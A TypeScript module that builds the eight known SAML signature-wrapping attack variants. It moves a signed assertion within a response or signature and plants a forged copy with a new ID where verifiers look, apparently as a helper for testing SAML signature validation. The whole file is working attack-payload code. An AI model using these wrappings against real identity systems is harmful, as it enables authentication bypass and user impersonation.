const otherIds = (text: string) => text.replace(/ ID="_\w+"/, ' ID="_evil"')
const inside = (text: string, part: string) =>
  text.replace(/<\/(samlp?:\w+)>$/, (end) => `${part}${end}`)
const inSignature = (text: string, part: string) =>
  text.replace('</ds:Signature>', () => `<ds:Object>${part}</ds:Object></ds:Signature>`)

/**
 * The eight ways to wrap a signature that are known from SAML Raider: the signed element stays somewhere, and
 * an evil copy stands where it is looked for.
 */
export function wrapped(variant: number, xml: string, evil: (text: string) => string): string {
  const [assertion = ''] = /<saml:Assertion .*<\/saml:Assertion>/.exec(xml) ?? []
  const signature = /<ds:Signature .*?<\/ds:Signature>/
  const copy = otherIds(evil(assertion.replace(signature, '')))
  const place = (text: string) => xml.replace(assertion, () => text)
  const evilResponse = otherIds(evil(xml.replaceAll(new RegExp(signature, 'g'), '')))
  const [own = ''] = signature.exec(xml) ?? []
  const bare = xml.replace(own, '')
  const carrying = (part: string) =>
    evilResponse.replace('</saml:Issuer>', () => `</saml:Issuer>${part}`)
  switch (variant) {
    case 1:
      return carrying(inSignature(own, bare))
    case 2:
      return carrying(`${bare}${own}`)
    case 3:
      return place(`${copy}${assertion}`)
    case 4:
      return place(inside(copy, assertion))
    case 5:
      return place(
        `${copy.replace('</saml:Issuer>', () => `</saml:Issuer>${own}`)}${assertion.replace(own, '')}`,
      )
    case 6:
      return place(
        copy.replace(
          '</saml:Issuer>',
          () => `</saml:Issuer>${inSignature(own, assertion.replace(own, ''))}`,
        ),
      )
    case 7:
      return place(`<samlp:Extensions>${copy}</samlp:Extensions>${assertion}`)
    default:
      return place(inSignature(assertion, copy).replace(/^/, copy))
  }
}
